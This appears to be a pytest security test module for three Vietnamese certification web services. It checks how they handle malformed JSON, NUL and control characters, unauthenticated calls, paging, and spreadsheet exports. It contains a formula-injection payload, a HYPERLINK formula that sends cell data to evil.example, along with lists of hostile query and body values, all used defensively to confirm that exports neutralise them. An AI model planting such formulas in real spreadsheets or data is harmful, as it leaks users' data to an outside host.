"""The edge of the three services (issue 18.1): what a hostile or careless client meets before
any use case runs.

- Every JSON operation, named from each service's own OpenAPI document, answers a malformed
  body (1,000 levels deep, too large, not UTF-8, another media type, missing, not JSON, NaN,
  numbers beyond ±2^53, NUL, unpaired surrogates, wrong types in every field) with a 400, 413,
  415 or 422 problem, never a 5xx, and nothing is logged as unhandled.
- Authentication comes before parsing: an anonymous call to a protected operation answers 401
  whatever its body, and its fields are never listed.
- 405 answers say which methods the path takes (``Allow``).
- Spreadsheet exports (the statistics CSV of the evaluation service, the portal's workbook)
  write a council named like a formula as text.
- Names refuse control characters; /rounds and /councils are paged like the other lists.
- The OpenAPI documents mark exactly the public operations ``security: []``, and say what the
  edge answers.
"""

from __future__ import annotations

import csv
import io
import logging
import uuid
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.security.conftest import assert_problem
from tests.support import flows

SERVICES = ("registration", "evaluation", "notification")

# Public operations, as each service answers them and its document must say (security: []).
PUBLIC = {
    "registration": {
        ("/api/v1/accounts/register", "post"),
        ("/api/v1/auth/token", "post"),
        ("/api/v1/auth/password/forgot", "post"),
        ("/api/v1/auth/password/link", "post"),
        ("/api/v1/auth/password/set", "post"),
        ("/api/v1/accounts/email-confirmation", "post"),
        ("/api/v1/units", "get"),
        ("/api/v1/product-sets", "get"),
        ("/api/v1/ledger/keys", "get"),
        ("/.well-known/jwks.json", "get"),
    },
    "evaluation": {
        ("/api/v1/certificates/{number}", "get"),
        ("/api/v1/rubrics/{version}/sheets/{set_code}", "get"),
        ("/api/v1/register", "get"),
        ("/api/v1/register/{number}", "get"),
        ("/api/v1/register.csv", "get"),
        ("/api/v1/register.json", "get"),
    },
    "notification": set(),
}

HA_GIANG_DISTRICT = "pre2025:district:024"  # no other test's unit: councils and rounds here
HA_GIANG = {"province_code": "02", "district_code": "024", "commune_code": "00688"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")'


# --- the services ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def apps(registration_app: Any, evaluation_app: Any, notification_app: Any) -> dict[str, Any]:
    return {
        "registration": registration_app,
        "evaluation": evaluation_app,
        "notification": notification_app,
    }


@pytest.fixture(scope="module")
def documents(apps: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {
        name: app.test_client().get("/api/v1/openapi.json").get_json() for name, app in apps.items()
    }


@pytest.fixture(scope="module")
def operator(sec_admin: flows.Actor) -> flows.Actor:
    """An administrator of this module's own: the bodies sent here may rename it."""
    return flows.create_official(sec_admin, ["admin"], None, own_address=True)


@pytest.fixture(autouse=True)
def no_unhandled_errors(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """Nothing a test here sends may be logged as an unhandled error (a traceback)."""
    with caplog.at_level(logging.ERROR, logger="shared.web"):
        yield
    unhandled = [r for r in caplog.records if r.name == "shared.web" and r.levelno >= logging.ERROR]
    assert not unhandled, [r.getMessage() for r in unhandled]


# --- operations from the documents -------------------------------------------------------------


def _concrete(path: str, op: dict[str, Any], item: dict[str, Any]) -> str:
    """The path with every parameter filled in (ids that exist nowhere)."""
    for param in [*item.get("parameters", []), *op.get("parameters", [])]:
        if param.get("in") != "path":
            continue
        schema = param.get("schema", {})
        if schema.get("format") == "uuid":
            value = str(uuid.uuid4())
        elif schema.get("type") == "integer":
            value = "1"
        elif param["name"] == "set_code":
            value = "04"
        else:
            value = "x1"
        path = path.replace("{" + param["name"] + "}", value)
    return path


def operations(document: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any], str]]:
    """(path template, method, operation, concrete path) of every operation."""
    for path, item in document["paths"].items():
        for method, op in item.items():
            if method in ("get", "post", "put", "patch", "delete"):
                yield path, method, op, _concrete(path, op, item)


def json_operations(document: dict[str, Any]) -> list[tuple[str, str, dict[str, Any], str]]:
    return [
        entry
        for entry in operations(document)
        if "application/json" in entry[2].get("requestBody", {}).get("content", {})
    ]


def body_schema(document: dict[str, Any], op: dict[str, Any]) -> dict[str, Any]:
    schema = op["requestBody"]["content"]["application/json"]["schema"]
    if "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    return schema


def send(app: Any, method: str, path: str, token: str | None = None, **kw: Any) -> flows.Reply:
    return flows.flask_transport(app.test_client())(method.upper(), path, token=token, **kw)


def assert_edge_refusal(reply: flows.Reply, allowed: tuple[int, ...], where: Any) -> None:
    assert reply.status < 500, (where, reply.status, reply.body)
    assert reply.status in allowed, (where, reply.status, reply.body)
    assert reply.headers.get("Content-Type", "").startswith("application/problem+json"), where
    assert reply.body["status"] == reply.status


def test_every_service_has_json_operations(documents: dict[str, dict[str, Any]]) -> None:
    counts = {name: len(json_operations(doc)) for name, doc in documents.items()}
    assert counts["registration"] >= 10 and counts["evaluation"] >= 10, counts
    assert counts["notification"] >= 1, counts


# --- deep, large and malformed bodies ------------------------------------------------------------


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def _deep_object(levels: int) -> str:
    return '{"a":' * levels + "1" + "}" * levels


MALFORMED: dict[str, tuple[dict[str, Any], tuple[int, ...]]] = {
    "1,000 levels of arrays": ({"data": _deep(1000)}, (400,)),
    "100,000 levels of arrays": ({"data": _deep(100_000)}, (400,)),
    "1,000 levels of objects": ({"data": _deep_object(1000)}, (400,)),
    "40 levels in a field": ({"data": '{"name": ' + _deep(40) + "}"}, (400,)),
    "larger than a JSON body may be": (
        {"data": '{"name": "' + "a" * (1024 * 1024 + 1) + '"}'},
        (413,),
    ),
    "not UTF-8": ({"data": b'{"name": "\xff\xfe"}'}, (400,)),
    "UTF-16": ({"data": '{"name": "x"}'.encode("utf-16")}, (400,)),
    "latin-1 declared": (
        {"data": b'{"name": "x"}', "content_type": "application/json; charset=latin-1"},
        (415,),
    ),
    "a form instead of JSON": (
        {"data": "name=x", "content_type": "application/x-www-form-urlencoded"},
        (415,),
    ),
    "text/plain": ({"data": '{"name": "x"}', "content_type": "text/plain"}, (415,)),
    "not JSON": ({"data": '{"name": '}, (400,)),
    "empty JSON body": ({"data": ""}, (400,)),
    "NaN": ({"data": '{"version": NaN}'}, (400,)),
    "Infinity": ({"data": '{"version": -Infinity}'}, (400,)),
    "a float that overflows": ({"data": '{"version": 1e400}'}, (400,)),
    "an integer beyond 2^53": ({"data": '{"version": 90071992547409930}'}, (400,)),
    "an integer beyond 32 bits": ({"data": '{"version": 2147483648}'}, (400,)),
    "a negative integer beyond 32 bits": ({"data": '{"samples_count": -2147483648}'}, (400,)),
    "a thousand digits": ({"data": '{"version": ' + "9" * 1000 + "}"}, (400,)),
    "a float beyond 2^53": ({"data": '{"version": 1e300}'}, (400,)),
    "an integral float beyond 32 bits": ({"data": '{"version": 3e9}'}, (400,)),
    "NUL in a value": ({"data": '{"name": "a\\u0000b"}'}, (400,)),
    "NUL in a key": ({"data": '{"na\\u0000me": "x"}'}, (400,)),
    "an unpaired surrogate": ({"data": '{"name": "\\ud800"}'}, (400,)),
    "an array": ({"json": []}, (422,)),
    "a string": ({"json": "x"}, (422,)),
    "a number": ({"json": 1}, (422,)),
    "null": ({"data": "null"}, (422,)),
}


def _with_type(kw: dict[str, Any]) -> dict[str, Any]:
    if "data" in kw and "content_type" not in kw:
        return {**kw, "content_type": "application/json"}
    return kw


@pytest.mark.parametrize("service", SERVICES)
def test_deep_json_answers_400_on_every_json_operation(
    service: str, apps: dict[str, Any], documents: dict[str, Any], operator: flows.Actor
) -> None:
    """The finding: 1,000 levels answered 500 everywhere, anonymously too. Now a public
    operation answers 400 to anyone; a protected one 401 to a stranger, 400 to a caller."""
    app = apps[service]
    for path, method, op, concrete in json_operations(documents[service]):
        public = op["security"] == []
        for body in (_deep(1000), _deep_object(1000)):
            kw = {"data": body, "content_type": "application/json"}
            anonymous = send(app, method, concrete, **kw)
            assert_edge_refusal(anonymous, (400,) if public else (401,), (method, path))
            signed_in = send(app, method, concrete, operator.token, **kw)
            assert_edge_refusal(signed_in, (400,), (method, path))
            assert signed_in.body["type"] == "urn:ocop:problem:malformed-request"


@pytest.mark.parametrize("kind", sorted(MALFORMED))
def test_malformed_bodies_are_refused_on_every_json_operation(
    kind: str, apps: dict[str, Any], documents: dict[str, Any], operator: flows.Actor
) -> None:
    kw, allowed = MALFORMED[kind]
    for service, app in apps.items():
        for path, method, _op, concrete in json_operations(documents[service]):
            reply = send(app, method, concrete, operator.token, **_with_type(kw))
            assert_edge_refusal(reply, allowed, (service, method, path, kind))


def test_a_missing_body_is_refused_where_one_is_required(
    apps: dict[str, Any], documents: dict[str, Any], operator: flows.Actor
) -> None:
    """The finding: a required body left out was taken as ``{}``."""
    for service, app in apps.items():
        for path, method, op, concrete in json_operations(documents[service]):
            assert op["requestBody"]["required"] is True, (service, method, path)
            reply = send(app, method, concrete, operator.token)
            assert_edge_refusal(reply, (400,), (service, method, path))
            assert "JSON body" in reply.body["detail"]


# Values of the wrong type, or out of any bound, put in each field of each body in turn.
WRONG_VALUES: list[Any] = [
    {},
    [],
    [[["x"]]],
    {"a": {"b": {"c": [1, 2, {"d": None}]}}},
    "x" * 100_000,
    -1,
    2**31 - 1,
    -(2**31) + 1,
    2**53,
    1.5,
    True,
    None,
    "",
    "\u202e\u0007",
    "0000-13-45",
    "not-a-uuid",
]


def test_wrong_types_in_every_field_answer_422(
    apps: dict[str, Any], documents: dict[str, Any], operator: flows.Actor
) -> None:
    """A body whose one field has a value of the wrong type or out of bounds: 422 (or the
    operation's own refusal: 403, 404, 409), never 5xx. Ids in paths exist nowhere and the
    rest of the body is missing, so nothing is changed."""
    for service, app in apps.items():
        document = documents[service]
        for path, method, op, concrete in json_operations(document):
            fields = body_schema(document, op).get("properties", {})
            for field in fields:
                for value in WRONG_VALUES:
                    reply = send(app, method, concrete, operator.token, json={field: value})
                    assert reply.status < 500, (service, method, path, field, value, reply.body)
                    if reply.status < 300 and isinstance(value, str | bool):
                        continue  # a fine value of this field (a name, a flag)
                    assert reply.status in (400, 403, 404, 409, 422), (
                        service,
                        method,
                        path,
                        field,
                        value,
                        reply.status,
                        reply.body,
                    )


HOSTILE_QUERY_VALUES = [
    "",
    "x",
    "-1",
    "0",
    "2147483647",
    "-2147483648",
    "99999999999999999999",
    "1e9",
    "NaN",
    "true",
    "null",
    "[]",
    "%ff%fe",
    "\u202e\u0007",
    "a" * 3000,
    "pre2025:district:999:extra",
    "2026-02-30",
    "9999-12-31T23:59:59+14:00",
    "00000000-0000-0000-0000-000000000000",
]


@pytest.mark.parametrize("service", SERVICES)
def test_hostile_query_values_never_answer_5xx(
    service: str, apps: dict[str, Any], documents: dict[str, Any], operator: flows.Actor
) -> None:
    """Every query parameter of every operation, one hostile value at a time (and twice)."""
    app = apps[service]
    for path, method, op, concrete in operations(documents[service]):
        names = [p["name"] for p in op.get("parameters", []) if p["in"] == "query"]
        for name in names:
            for value in HOSTILE_QUERY_VALUES:
                for query in ({name: value}, {name: [value, value]}):
                    reply = send(app, method, concrete, operator.token, query_string=query)
                    assert reply.status < 500, (service, method, path, query, reply.body)


def test_the_path_query_and_form_are_bounded_too(call: flows.Transport) -> None:
    """Found beside the finding: an upload's note with NUL, a version number in the path or a
    history cursor beyond 32 bits answered 500 (PostgreSQL, or SQLite's integers)."""
    applicant = flows.register(call, own_address=True)
    producer = flows.create_producer(applicant)
    dossier = flows.create_dossier(applicant, producer["id"])
    base = f"/api/v1/dossiers/{dossier['id']}"
    pdf = {"file": ("giay-phep.pdf", flows.PDF, "application/pdf")}
    for form, files in (
        ({"kind": "other", "note": "a\x00b"}, pdf),
        ({"kind": "oth\x00er"}, pdf),
    ):
        reply = applicant("POST", f"{base}/documents", data=form, files=files)
        assert_problem(reply, 400, "malformed-request")
    # A file's name is the upload's to check (tests/security/test_uploads.py): 422 on the file.
    named = applicant(
        "POST",
        f"{base}/documents",
        data={"kind": "other"},
        files={"file": ("giay\x00.pdf", flows.PDF, "application/pdf")},
    )
    assert_problem(named, 422, "validation-error")
    huge = 2**64
    reply = applicant("GET", f"{base}/documents/{uuid.uuid4()}/versions/{huge}/content")
    assert_problem(reply, 404, "not-found")
    for query in (f"after={huge}", f"after=-{huge}", "limit=99999999999"):
        assert_problem(applicant("GET", f"{base}/history?{query}"), 400, "malformed-request")
    assert_problem(applicant("GET", f"{base}/history?after=x"), 422, "validation-error")
    assert applicant("GET", f"{base}/history?after=2147483647").status == 200
    assert applicant("GET", f"{base}/documents").body["items"] == []  # nothing was stored


def test_nul_in_the_path_or_query_answers_400(apps: dict[str, Any], operator: flows.Actor) -> None:
    evaluation = apps["evaluation"]
    for path in (
        "/api/v1/certificates/OCOP-%00-1",
        "/api/v1/officials?q=a%00b",
        "/api/v1/councils?unit=%00",
    ):
        assert_edge_refusal(send(evaluation, "get", path, operator.token), (400,), path)
    reply = send(apps["registration"], "get", "/api/v1/units?tree=pre2025&parent=%00")
    assert_edge_refusal(reply, (400,), "units")


# --- authentication before parsing -------------------------------------------------------------


@pytest.mark.parametrize(
    ("service", "method", "path", "body"),
    [
        ("registration", "patch", "/api/v1/dossiers/{id}", {"version": "x", "bogus": 1}),
        ("registration", "post", "/api/v1/producers", {"name": 5}),
        ("registration", "patch", "/api/v1/accounts/me", {"display_name": ""}),
        ("evaluation", "post", "/api/v1/councils", {"name": "", "level": "nowhere"}),
        ("evaluation", "post", "/api/v1/rounds", {}),
        ("notification", "put", "/api/v1/preferences/me", {"language": 42}),
    ],
)
def test_an_anonymous_invalid_body_answers_401_not_its_fields(
    service: str, method: str, path: str, body: Any, apps: dict[str, Any]
) -> None:
    """The finding: these listed their fields (422) to a stranger."""
    reply = send(apps[service], method, path.replace("{id}", str(uuid.uuid4())), json=body)
    assert_problem(reply, 401, "unauthorized")
    assert "errors" not in reply.body
    assert reply.headers["WWW-Authenticate"] == "Bearer"


@pytest.mark.parametrize("service", SERVICES)
def test_every_protected_operation_answers_401_before_reading_its_body(
    service: str, apps: dict[str, Any], documents: dict[str, Any]
) -> None:
    """Anonymous calls with a body that is not even JSON: 401 on every protected operation
    (a public one reads it: 400); the document's ``security`` says which is which."""
    app = apps[service]
    for path, method, op, concrete in operations(documents[service]):
        reply = send(app, method, concrete, data="{not json", content_type="application/json")
        if op["security"] == []:
            assert reply.status != 401, (method, path, reply.body)
        else:
            assert_problem(reply, 401, "unauthorized")


def test_a_strangers_body_is_not_even_read(apps: dict[str, Any], documents: dict[str, Any]) -> None:
    """2 MiB of garbage, beyond what a JSON body may be: a protected operation answers 401
    (had the body been read: 413), a public one 413."""
    garbage = b"[" * (2 * 1024 * 1024)
    for service, app in apps.items():
        for path, method, op, concrete in json_operations(documents[service]):
            reply = send(app, method, concrete, data=garbage, content_type="application/json")
            want = 413 if op["security"] == [] else 401
            assert_edge_refusal(reply, (want,), (service, method, path))


@pytest.mark.parametrize("service", SERVICES)
def test_the_documents_mark_exactly_the_public_operations(
    service: str, documents: dict[str, Any]
) -> None:
    public = set()
    for path, method, op, _ in operations(documents[service]):
        assert "security" in op, (method, path)
        if op["security"] == []:
            public.add((path, method))
        else:
            assert op["security"] == [{"bearer": []}], (method, path)
    assert public == PUBLIC[service]


@pytest.mark.parametrize("service", SERVICES)
def test_the_documents_say_what_the_edge_answers(service: str, documents: dict[str, Any]) -> None:
    document = documents[service]
    assert "Problem" in document["components"]["schemas"]
    assert "Error" not in document["components"]["schemas"]
    default = document["components"]["responses"]["DEFAULT_ERROR"]
    assert list(default["content"]) == ["application/problem+json"]
    for path, method, op, _ in operations(document):
        responses = op["responses"]
        for status in ("400", "401", "414", "431"):
            assert status in responses, (method, path, status)
        assert list(responses["414"]["content"]) == ["text/html"]  # gunicorn's
        for status, response in responses.items():
            if status.isdigit() and int(status) >= 400 and status not in ("414", "431"):
                assert "application/problem+json" in response["content"], (method, path, status)
        body = op.get("requestBody")
        if body is not None and "application/json" in body["content"]:
            assert body["required"] is True
            assert {"413", "415", "422"} <= set(responses), (method, path)
        for param in op.get("parameters", []):
            assert param["in"] in ("path", "query", "header"), (method, path, param)


def test_binary_answers_are_documented(documents: dict[str, Any]) -> None:
    paths = documents["registration"]["paths"]
    report = paths["/api/v1/dossiers/{dossier_id}/case-file/report"]["get"]["responses"]["200"]
    assert {"text/html", "application/pdf"} <= set(report["content"])
    download = paths[
        "/api/v1/dossiers/{dossier_id}/documents/{document_id}/versions/{number}/content"
    ]["get"]["responses"]["200"]
    assert {"application/pdf", "image/jpeg", "image/png"} <= set(download["content"])
    upload = paths["/api/v1/dossiers/{dossier_id}/documents"]["post"]
    multipart = upload["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert {"file", "kind", "note"} <= set(multipart["properties"])
    assert {"file", "kind"} <= set(multipart["required"])
    export = documents["evaluation"]["paths"]["/api/v1/statistics/export.csv"]["get"]
    assert "text/csv" in export["responses"]["200"]["content"]


# --- 405 -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("service", "method", "path", "allowed"),
    [
        ("registration", "DELETE", "/api/v1/accounts/register", {"POST"}),
        ("registration", "PUT", "/api/v1/dossiers", {"GET", "POST"}),
        ("registration", "POST", "/api/v1/units", {"GET"}),
        ("evaluation", "PUT", "/api/v1/councils", {"GET", "POST"}),
        ("evaluation", "DELETE", "/api/v1/rounds", {"GET", "POST"}),
        ("notification", "PATCH", "/api/v1/preferences/me", {"GET", "PUT"}),
        ("notification", "POST", "/healthz", {"GET"}),
    ],
)
def test_405_says_which_methods_the_path_takes(
    service: str, method: str, path: str, allowed: set[str], apps: dict[str, Any]
) -> None:
    reply = send(apps[service], method, path)
    assert_problem(reply, 405, "method-not-allowed")
    methods = {m.strip() for m in reply.headers["Allow"].split(",")}
    assert allowed <= methods <= allowed | {"HEAD", "OPTIONS"}, methods


# --- names -------------------------------------------------------------------------------------

CONTROL = ["a\tb", "a\nb", "a\rb", "a\x00b", "a\x07b", "a\x1bb", "a\x7fb", "a\x85b", "a\u202eb"]
CONTROL += ["a\u2028b", "a\u200bb", "a\ufeffb"]


def test_names_refuse_control_characters(call: flows.Transport, ha_giang: flows.Actor) -> None:
    """Display names, producers' and their representatives' names, product names, council and
    round names: 422 naming the field (400 for NUL, refused at the edge)."""
    applicant = flows.register(call, own_address=True)
    producer = flows.create_producer(applicant)
    dossier = flows.create_dossier(applicant, producer["id"])
    representative = flows.producer_body()["representative"]
    a_round = {
        "level": "district",
        "unit": HA_GIANG_DISTRICT,
        "proposals_due": "2031-03-01",
        "closes_on": "2031-04-01",
    }
    for bad in CONTROL:
        email = f"ctl-{uuid.uuid4().hex[:10]}@example.vn"
        register = {"email": email, "password": flows.DEMO_PASSWORD, "display_name": bad}
        cases: list[tuple[Any, str, str, dict[str, Any], str]] = [
            (call, "POST", "/api/v1/accounts/register", register, "display_name"),
            (applicant, "PATCH", "/api/v1/accounts/me", {"display_name": bad}, "display_name"),
            (
                applicant,
                "POST",
                "/api/v1/producers",
                {**flows.producer_body(), "name": bad},
                "name",
            ),
            (
                applicant,
                "POST",
                "/api/v1/producers",
                {**flows.producer_body(), "representative": {**representative, "name": bad}},
                "representative",
            ),
            (
                applicant,
                "POST",
                "/api/v1/dossiers",
                {**flows.dossier_body(producer["id"]), "product_name": bad},
                "product_name",
            ),
            (
                applicant,
                "PATCH",
                f"/api/v1/dossiers/{dossier['id']}",
                {"version": dossier["version"], "product_name": bad},
                "product_name",
            ),
            (
                ha_giang,
                "POST",
                "/api/v1/councils",
                {"name": bad, "level": "district", "unit": HA_GIANG_DISTRICT},
                "name",
            ),
            (ha_giang, "POST", "/api/v1/rounds", {**a_round, "name": bad}, "name"),
        ]
        for actor, method, path, body, field in cases:
            reply = actor(method, path, json=body)
            where = (method, path, field, repr(bad))
            if "\x00" in bad:
                assert_problem(reply, 400, "malformed-request")
                continue
            assert_problem(reply, 422, "validation-error")
            assert field in reply.body["errors"], (where, reply.body)
    # Vietnamese, composed or decomposed, passes.
    for fine in ("Hợp tác xã Đông Hà", "Ho\u0323p ta\u0301c xa\u0303"):
        reply = applicant("PATCH", "/api/v1/accounts/me", json={"display_name": fine})
        assert reply.status == 200 and reply.body["display_name"] == fine, reply.body


# --- paging ------------------------------------------------------------------------------------


def _pages(actor: flows.Actor, path: str, limit: int) -> list[list[dict[str, Any]]]:
    pages, after = [], None
    while True:
        query = f"{path}&limit={limit}" + (f"&after={after}" if after else "")
        reply = actor("GET", query)
        assert reply.status == 200, reply.body
        assert set(reply.body) == {"items", "next"}, reply.body
        pages.append(reply.body["items"])
        after = reply.body["next"]
        if after is None:
            return pages
        assert len(pages) < 50, "the cursor does not advance"


@pytest.fixture(scope="module")
def ha_giang(sec_admin: flows.Actor, eval_call: flows.Transport) -> flows.Actor:
    """The secretariat of a district no other test uses, on the evaluation API."""
    person = flows.create_official(sec_admin, ["secretariat"], HA_GIANG_DISTRICT, own_address=True)
    return flows.Actor(eval_call, person.token, person.account)


def test_rounds_are_paged_in_date_order(ha_giang: flows.Actor) -> None:
    dates = [
        ("2032-03-01", "2032-05-01"),
        ("2032-01-10", "2032-02-01"),
        ("2032-04-01", "2032-05-01"),
    ]
    dates += [("2032-06-01", "2032-07-01"), ("2032-08-01", "2032-09-30")]
    for n, (due, closes) in enumerate(dates):
        body = {
            "level": "district",
            "unit": HA_GIANG_DISTRICT,
            "name": f"Đợt {n}",
            "proposals_due": due,
            "closes_on": closes,
        }
        reply = ha_giang("POST", "/api/v1/rounds", json=body)
        assert reply.status in (201, 409), reply.body  # 409: already there (a rerun)
    path = f"/api/v1/rounds?unit={HA_GIANG_DISTRICT}"
    pages = _pages(ha_giang, path, 2)
    assert [len(p) for p in pages[:-1]] == [2] * (len(pages) - 1)
    listed = [r for page in pages for r in page]
    assert len({r["id"] for r in listed}) == len(listed)
    whole = ha_giang("GET", f"{path}&limit=200").body
    assert whole["next"] is None and [r["id"] for r in whole["items"]] == [r["id"] for r in listed]
    keys = [(r["closes_on"], r["proposals_due"], r["id"]) for r in listed]
    assert keys == sorted(keys)
    first = ha_giang("GET", "/api/v1/rounds?limit=1").body
    assert len(first["items"]) == 1 and first["next"] == first["items"][0]["id"]
    unknown = ha_giang("GET", f"/api/v1/rounds?after={uuid.uuid4()}")
    assert_problem(unknown, 422, "validation-error")
    assert_problem(ha_giang("GET", "/api/v1/rounds?limit=0"), 422, "validation-error")
    assert_problem(ha_giang("GET", "/api/v1/rounds?limit=201"), 422, "validation-error")


def test_councils_are_paged_oldest_first(ha_giang: flows.Actor) -> None:
    made = set()
    for n in range(3):
        body = {"name": f"Hội đồng Hà Giang {n}", "level": "district", "unit": HA_GIANG_DISTRICT}
        reply = ha_giang("POST", "/api/v1/councils", json=body)
        assert reply.status == 201, reply.body
        made.add(reply.body["id"])
    path = f"/api/v1/councils?unit={HA_GIANG_DISTRICT}"
    pages = _pages(ha_giang, path, 2)
    listed = [c["id"] for page in pages for c in page]
    # Counted among this test's own councils: another test may seat one in the district too.
    assert len(made.intersection(listed)) == 3 and len(set(listed)) == len(listed)
    assert listed == sorted(listed, key=uuid.UUID)
    whole = ha_giang("GET", f"{path}&limit=200").body
    assert [c["id"] for c in whole["items"]] == listed and whole["next"] is None
    assert_problem(ha_giang("GET", "/api/v1/councils?limit=0"), 422, "validation-error")


# --- spreadsheet exports -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_council(evaluation: Any, ha_giang: flows.Actor) -> str:
    """A council named like a formula (the API takes the name: it is printable), with the
    sheets of one closed evaluation of a Hà Giang case, so the statistics list it."""
    from services.evaluation.models import Evaluation, ScoreSheet
    from tests.support.cases import make_case

    reply = ha_giang(
        "POST",
        "/api/v1/councils",
        json={"name": FORMULA, "level": "district", "unit": HA_GIANG_DISTRICT},
    )
    assert reply.status == 201, reply.body
    council_id = reply.body["id"]
    now = datetime.now(UTC)
    with evaluation.db.unit_of_work() as uow:
        case = make_case(uow, **HA_GIANG, level="district", stage="recognised")
        found = Evaluation(
            dossier_id=case.dossier_id,
            level="district",
            council_id=uuid.UUID(council_id),
            status="closed",
            opened_at=now,
            closed_at=now,
        )
        uow.session.add(found)
        uow.session.flush()
        for total in (71, 77):
            uow.session.add(
                ScoreSheet(
                    evaluation_id=found.id,
                    account_id=uuid.uuid4(),
                    answers={},
                    total=float(total),
                    part_points={},
                    document_hashes={},
                    submitted_at=now,
                    updated_at=now,
                )
            )
        uow.commit()
    return council_id


@pytest.fixture(scope="module")
def ha_giang_auditor(sec_admin: flows.Actor, eval_call: flows.Transport) -> flows.Actor:
    person = flows.create_official(sec_admin, ["auditor"], "pre2025:province:02", own_address=True)
    return flows.Actor(eval_call, person.token, person.account)


def test_the_statistics_csv_writes_a_formula_name_as_text(
    formula_council: str, ha_giang_auditor: flows.Actor
) -> None:
    for grouping in ("council_scores", "council_bands"):
        reply = ha_giang_auditor("GET", f"/api/v1/statistics/export.csv?group_by={grouping}")
        assert reply.status == 200
        rows = list(csv.DictReader(io.StringIO(reply.body.decode("utf-8-sig"))))
        (mine,) = {r["council"] for r in rows if r["council_id"] == formula_council}
        assert mine == "'" + FORMULA
        assert not any(
            v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values()
        )


@pytest.fixture(scope="module")
def portal(registration_app: Any, evaluation_app: Any, tmp_path_factory: Any) -> Any:
    """The portal against the real registration and evaluation apps (tests/portal's way)."""
    from services.portal.api_client import ApiClient
    from services.portal.app import create_app
    from shared import config
    from tests.portal.wsgi_adapter import WSGIAdapter

    settings = replace(
        config.load_portal(),
        data_dir=tmp_path_factory.mktemp("edge-portal"),
        registration_url="http://registration.test",
        evaluation_url="http://evaluation.test",
    )
    api = ApiClient(settings)
    api.http.mount("http://registration.test", WSGIAdapter(registration_app))
    api.http.mount("http://evaluation.test", WSGIAdapter(evaluation_app))
    app = create_app(settings, api)
    app.config["TESTING"] = True
    return app


def test_the_portal_workbook_and_csv_write_a_formula_name_as_text(
    formula_council: str, ha_giang_auditor: flows.Actor, portal: Any
) -> None:
    client = portal.test_client()
    with client.session_transaction() as session:
        session.update(token=ha_giang_auditor.token, account=ha_giang_auditor.account)
    resp = client.get("/dashboard/export.xlsx")
    assert resp.status_code == 200, resp.status_code
    book = load_workbook(io.BytesIO(resp.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    named = [c for c in cells if isinstance(c.value, str) and FORMULA in c.value]
    assert named and all(c.value == "'" + FORMULA for c in named)
    # Numbers stay numbers beside the neutralised name.
    scores = [row for row in book.worksheets[-2].values if row[0] == formula_council]
    assert scores and scores[0][3:] == (2, 71.0, 74.0, 77.0), scores
    csv_resp = client.get("/dashboard/export/council_scores.csv")
    assert csv_resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(csv_resp.data.decode("utf-8-sig"))))
    assert [r["council"] for r in rows if r["council_id"] == formula_council] == ["'" + FORMULA]


def test_neutralise_follows_owasp() -> None:
    from shared.spreadsheet import neutralise

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    for value in ("Hội đồng", "a=b", 5, -5, 1.5, None, date(2030, 1, 1)):
        assert neutralise(value) == value


def test_the_portal_follows_next_where_it_offers_a_choice() -> None:
    """The portal lists every council and round to choose from (EVERY: the largest page,
    then each ``next``), and the first page of the other lists."""
    from services.portal.views.common import EVERY, _fetch

    pages = {None: (["a", "b"], "b"), "b": (["c", "d"], "d"), "d": (["e"], None)}
    asked: list[dict[str, Any]] = []

    class Api:
        def call(self, service: str, method: str, path: str, **kw: Any) -> dict[str, Any]:
            asked.append(kw["params"])
            items, cursor = pages[kw["params"].get("after")]
            return {"items": [{"id": i} for i in items], "next": cursor}

    every = _fetch(Api(), "t", "evaluation", "/rounds", {**EVERY, "level": "district"})  # type: ignore[arg-type]
    assert [r["id"] for r in every] == ["a", "b", "c", "d", "e"]
    assert asked[0] == {"level": "district", "limit": 200}
    assert [p.get("after") for p in asked] == [None, "b", "d"]
    asked.clear()
    first = _fetch(Api(), "t", "evaluation", "/cases", {"level": "district"})  # type: ignore[arg-type]
    assert [r["id"] for r in first] == ["a", "b"] and asked == [{"level": "district"}]
